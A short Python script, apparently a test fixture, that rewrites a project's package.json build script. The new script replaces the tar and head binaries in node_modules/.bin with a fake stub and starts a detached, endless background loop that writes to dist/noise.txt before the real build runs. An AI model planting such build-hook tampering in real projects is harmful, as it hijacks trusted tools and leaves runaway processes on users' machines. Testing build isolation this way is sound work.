import json
from pathlib import Path

package = json.loads(Path("package.json").read_text())
build = package["scripts"]["build"]
tar = "/srv/node_modules/.bin/tar"
package["scripts"]["build"] = (
    f"printf '#!/bin/sh\\necho ANOTHER-TAR\\n' > {tar} && chmod 755 {tar} && cp {tar} /srv/node_modules/.bin/head && "
    f"(setsid sh -c 'while :; do date >> dist/noise.txt; sleep 0.05; done' >/dev/null 2>&1 &) && {build}"
)
Path("package.json").write_text(json.dumps(package))
